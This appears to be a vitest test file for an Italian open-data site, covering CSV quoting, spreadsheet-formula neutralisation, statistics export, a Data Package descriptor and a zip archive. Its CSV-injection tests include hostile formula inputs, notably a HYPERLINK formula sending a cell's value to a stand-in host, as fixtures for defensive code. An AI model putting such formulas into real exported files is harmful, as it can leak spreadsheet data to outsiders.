import zlib from 'node:zlib';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { buildContentGraph } from '../../src/lib/content-graph.ts';
import { parse } from 'csv-parse/sync';
import { csvCell, neutralizeFormula, toCsv, UTF8_BOM } from '../../src/lib/site/csv.ts';
import {
  collectionJson,
  dataPackage,
  openDataArchive,
  openDataFiles,
  periodCode,
  rowUnit,
  statsTableCsv,
} from '../../src/lib/site/open-data.ts';
import { FundingProgrammeSchema } from '../../src/schemas/funding.ts';
import { OrganizationSchema } from '../../src/schemas/organization.ts';
import { PlanSchema } from '../../src/schemas/plan.ts';
import { ProjectSchema } from '../../src/schemas/project.ts';
import { StatsTableSchema } from '../../src/schemas/stats.ts';
import { eventi, mixed, social } from './stats-fixtures.ts';

describe('CSV quoting', () => {
  test.each([
    ['plain', 'plain'],
    ['a, b', '"a, b"'],
    ['dice "sì"', '"dice ""sì"""'],
    ['due\nrighe', '"due\nrighe"'],
    [' spazio', '" spazio"'],
    ['perché – è', 'perché – è'],
    [1400, '1400'],
    [4.33, '4.33'],
    [0, '0'],
    [null, ''],
    [undefined, ''],
    [Number.NaN, ''],
    [true, 'true'],
  ])('csvCell(%j) = %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  test('UTF-8 byte-order mark (Excel reads accents right), lines end with CRLF, header first', () => {
    expect(toCsv(['a', 'b'], [[1, 'x,y']])).toBe('\uFEFFa,b\r\n1,"x,y"\r\n');
  });
});

describe('CSV injection (OWASP): text that a spreadsheet would run as a formula gets a leading quote', () => {
  test.each([
    ['=HYPERLINK("http://x.example/?"&A1;"clic")', '\'=HYPERLINK("http://x.example/?"&A1;"clic")'],
    ['+39 02 123', "'+39 02 123"],
    ['-2+3', "'-2+3"],
    ['- un trattino di elenco', "'- un trattino di elenco"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
    // A plain number, even negative, is read as that number only: it stays a number.
    ['-12.5', '-12.5'],
    ['+3', '+3'],
    ['525000.00', '525000.00'],
    // Harmless text, and the characters anywhere but at the start.
    ['Comuni = 1401', 'Comuni = 1401'],
    ['e-mail: info@anci.example', 'e-mail: info@anci.example'],
    ['', ''],
  ])('%j → %j', (text, expected) => {
    expect(neutralizeFormula(text)).toBe(expected);
  });

  test.each([
    ['a number is never touched, negative or not', [-12.5, 0, -1400], '-12.5,0,-1400'],
    ['a formula in a label is neutralised and quoted as CSV needs', ['=1+1', 'a,=b', '@x'], '\'=1+1,"a,=b",\'@x'],
  ])('%s', (_name, row, expected) => {
    expect(toCsv(['a', 'b', 'c'], [row]).split('\r\n')[1]).toBe(expected);
  });

  test('read back with csv-parse, the cells are the neutralised texts and the numbers', () => {
    const text = toCsv(
      ['etichetta', 'valore'],
      [
        ['=HYPERLINK("x")', -3],
        ['perché – è', 4.33],
      ],
    );
    expect(text.startsWith(UTF8_BOM)).toBe(true);
    expect(parse(text, { bom: true })).toEqual([
      ['etichetta', 'valore'],
      ['\'=HYPERLINK("x")', '-3'],
      ['perché – è', '4.33'],
    ]);
  });
});

describe('one statistics table as CSV', () => {
  test('header is riga,gruppo,unita and the period labels; missing cells empty; dot decimals', () => {
    expect(statsTableCsv(eventi).split('\r\n')).toEqual([
      '\uFEFFriga,gruppo,unita,2019,2020,2021,2022,2023,gen–giu 2024',
      'eventi,,,164,66,85,101,103,50',
      'partecipanti,,,10627,6956,7653,8487,8520,4472',
      '',
    ]);
    expect(statsTableCsv(social)).toContain('post/stories pubblicati,Instagram,,,,288,450,580,388\r\n');
    expect(statsTableCsv(mixed)).toContain('soddisfazione,,%,91,93.5,\r\n');
    expect(statsTableCsv(mixed)).toContain('spesa,,euro,1200.5,1300,1250.25\r\n');
  });

  test('a row label written as a formula is published as text; negative figures stay numbers', () => {
    const [first, second] = eventi.rows;
    if (!first || !second) throw new Error('eventi ha due righe');
    const hostile = {
      ...eventi,
      rows: [
        { ...first, label: '=HYPERLINK("http://x.example";"clic")' },
        { ...second, values: [-5, ...(second.values ?? []).slice(1)] },
      ],
    };
    const [, formulaLine, negativeLine] = statsTableCsv(hostile).split('\r\n');
    expect(formulaLine?.startsWith(`"'=HYPERLINK(""http://x.example"";""clic"")"`)).toBe(true);
    expect(negativeLine?.split(',')[3]).toBe('-5');
  });

  test.each([
    [{ year: 2019, throughMonth: 12, partial: false }, '2019'],
    [{ year: 2024, throughMonth: 6, partial: true }, '2024-01/2024-06'],
  ])('periodCode(%o) = %s', (period, expected) => {
    expect(periodCode(period)).toBe(expected);
  });

  test.each([
    [{ kind: 'integer', unit: 'ore' }, 'ore'],
    [{ kind: 'integer' }, ''],
    [{ kind: 'euro' }, 'euro'],
    [{ kind: 'percent' }, '%'],
    [{ kind: 'rating', scale: { min: 1, max: 5 } }, 'scala 1-5'],
  ] as const)('rowUnit(%o) = %s', (row, expected) => {
    expect(rowUnit(row)).toBe(expected);
  });
});

const graph = buildContentGraph([
  {
    collection: 'organizations',
    id: 'anci-prova',
    data: OrganizationSchema.parse({
      kind: 'anci-regionale',
      name: { short: 'ANCI Prova', full: 'ANCI Prova' },
      areas: [{ id: 'welfare', label: 'Welfare, casa' }],
    }),
  },
  { collection: 'funding', id: 'pnrr', data: FundingProgrammeSchema.parse({ id: 'pnrr', label: 'PNRR' }) },
  {
    collection: 'projects',
    id: 'anci-prova/sportello',
    organization: 'anci-prova',
    data: ProjectSchema.parse({
      kind: 'servizio',
      title: 'Sportello "Comuni"',
      summary: 'Aiuto, ogni giorno.',
      status: 'attivo',
      areas: ['welfare'],
      start: '2020-11',
      budget: 8739950.5,
      funding: ['pnrr'],
      role: 'capofila',
    }),
  },
  {
    collection: 'projects',
    id: 'anci-prova/futuro',
    organization: 'anci-prova',
    data: ProjectSchema.parse({
      kind: 'progetto',
      title: 'Futuro',
      summary: 'Da fare.',
      status: 'in-progettazione',
      budget: 'in definizione',
    }),
  },
  {
    collection: 'plans',
    id: 'anci-prova/2021',
    organization: 'anci-prova',
    data: PlanSchema.parse({
      year: 2021,
      title: 'Piano 2021',
      sections: [
        {
          id: 'rappresentanza',
          title: 'Rappresentanza',
          objectives: [
            {
              id: 'riforma-cal',
              text: 'Riforma del CAL',
              deadline: { by: '2021-06' },
              continues: 'anci-prova/2018/riforma-cal',
              outcomes: [
                { status: 'in-corso', asOf: '2021-06' },
                { status: 'raggiunto', asOf: '2021-12-31' },
              ],
            },
          ],
        },
      ],
    }),
  },
  {
    collection: 'stats',
    id: 'anci-prova/eventi',
    organization: 'anci-prova',
    data: StatsTableSchema.parse({
      title: 'Eventi',
      periods: [2023, { year: 2024, through: '2024-06' }],
      rows: [{ id: 'eventi', label: 'eventi', values: [103, null] }],
    }),
  },
]);

const files = openDataFiles(graph, 'https://annuario.test/dati/');
const file = (path: string) => {
  const found = files.find((f) => f.path === path);
  if (!found) throw new Error(`no ${path}`);
  return found;
};
/** A CSV's lines, after the byte-order mark every published CSV starts with. */
const lines = (path: string) => {
  const { content } = file(path);
  expect(content.startsWith(UTF8_BOM), `${path} inizia col BOM UTF-8`).toBe(true);
  return content.slice(UTF8_BOM.length).split('\r\n').filter(Boolean);
};

describe('open-data files', () => {
  test('are the three CSVs, every collection as JSON, and the data package last', () => {
    expect(files.map((f) => f.path)).toEqual([
      'schede.csv',
      'obiettivi.csv',
      'statistiche.csv',
      'organizations.json',
      'funding.json',
      'documents.json',
      'projects.json',
      'plans.json',
      'stats.json',
      'reports.json',
      'pages.json',
      'datapackage.json',
    ]);
  });

  test.each(['schede.csv', 'obiettivi.csv', 'statistiche.csv'])('%s: header equals its schema fields', (path) => {
    expect(lines(path)[0]).toBe(
      file(path)
        .fields?.map((f) => f.name)
        .join(','),
    );
  });

  test('schede.csv: budget in euro with dot decimals, «in definizione» empty, labels joined, quotes doubled', () => {
    expect(lines('schede.csv')).toEqual([
      'id,organizzazione,titolo,tipo,stato,aree,inizio,fine,importo_euro,finanziamenti,ruolo,sintesi',
      'anci-prova/sportello,anci-prova,"Sportello ""Comuni""",servizio,attivo,"Welfare, casa",2020-11,,8739950.50,PNRR,capofila,"Aiuto, ogni giorno."',
      'anci-prova/futuro,anci-prova,Futuro,progetto,in-progettazione,,,,,,,Da fare.',
    ]);
  });

  test('obiettivi.csv: latest outcome, deadline, what it continues', () => {
    expect(lines('obiettivi.csv')[1]).toBe(
      'anci-prova/2021,2021,Rappresentanza,anci-prova/2021/riforma-cal,Riforma del CAL,2021-06,raggiunto,anci-prova/2018/riforma-cal',
    );
  });

  test('statistiche.csv: long format, partial period as an ISO interval, missing value empty', () => {
    expect(lines('statistiche.csv').slice(1)).toEqual([
      'anci-prova/eventi,eventi,,2023,false,103,',
      'anci-prova/eventi,eventi,,2024-01/2024-06,true,,',
    ]);
  });

  test('JSON files are what npm run export writes', () => {
    expect(file('projects.json').content).toBe(`${JSON.stringify(graph.projects, null, 2)}\n`);
    expect(collectionJson(graph).map(([name]) => name)).toContain('stats.json');
  });

  test('datapackage.json follows the Data Package spec: licence, resources with format, mediatype, encoding, schema', () => {
    const descriptor = JSON.parse(file('datapackage.json').content) as ReturnType<typeof dataPackage>;
    expect(descriptor).toMatchObject({
      name: 'annuario',
      homepage: 'https://annuario.test/dati/',
      licenses: [{ name: 'CC-BY-4.0', path: 'https://creativecommons.org/licenses/by/4.0/', title: 'Creative Commons Attribution 4.0' }],
    });
    const resources = descriptor['resources'] as {
      path: string;
      format: string;
      mediatype: string;
      encoding: string;
      bytes: number;
      schema?: { fields: { name: string; type: string; title: string; description: string }[] };
    }[];
    expect(resources.map((r) => r.path)).toEqual(files.slice(0, -1).map((f) => f.path));
    for (const resource of resources) {
      expect(resource.encoding).toBe('utf-8');
      expect(resource.bytes).toBe(new TextEncoder().encode(file(resource.path).content).length);
      if (resource.format === 'csv') {
        expect(resource.mediatype).toBe('text/csv');
        for (const field of resource.schema?.fields ?? []) expect(Object.keys(field)).toEqual(['name', 'type', 'title', 'description']);
      } else {
        expect(resource.mediatype).toBe('application/json');
        expect(resource.schema).toBeUndefined();
      }
    }
  });
});

describe('«Scarica tutti i dati»', () => {
  const files = [
    { name: 'schede', path: 'schede.csv', format: 'csv', mediatype: 'text/csv', title: 'Schede', description: 'd', content: 'id\r\nà\r\n' },
    {
      name: 'datapackage',
      path: 'datapackage.json',
      format: 'json',
      mediatype: 'application/json',
      title: 'DP',
      description: 'd',
      content: '{}\n',
    },
  ] as const;

  test('holds every file, byte for byte, in one folder', () => {
    const entries = unzipSync(openDataArchive(files, '2026-06-30'));
    expect(Object.keys(entries)).toEqual(['annuario-dati/schede.csv', 'annuario-dati/datapackage.json']);
    expect(strFromU8(entries['annuario-dati/schede.csv'] ?? new Uint8Array())).toBe('id\r\nà\r\n');
  });

  test('the same data on the same date give the same bytes', () => {
    // A copy of the list: the archive of one list is made once and remembered.
    expect(openDataArchive([...files], '2026-06-30')).toEqual(openDataArchive([...files], '2026-06-30'));
    expect(openDataArchive([...files], '2026-06-30')).not.toEqual(openDataArchive([...files], '2026-07-01'));
  });

  test('entries are deflated and carry the CRC of their text', () => {
    const archive = Buffer.from(openDataArchive([...files], '2026-06-30'));
    // Each central directory header (PK 1 2): method at offset 10, CRC-32 at 16 (APPNOTE 4.3.12).
    const signature = Buffer.from([0x50, 0x4b, 0x01, 0x02]);
    const headers: number[] = [];
    for (let at = archive.indexOf(signature); at !== -1; at = archive.indexOf(signature, at + 4)) headers.push(at);
    expect(headers).toHaveLength(files.length);
    headers.forEach((at, i) => {
      expect(archive.readUInt16LE(at + 10)).toBe(8);
      expect(archive.readUInt32LE(at + 16)).toBe(zlib.crc32(Buffer.from(files[i]?.content ?? '', 'utf8')));
    });
  });
});
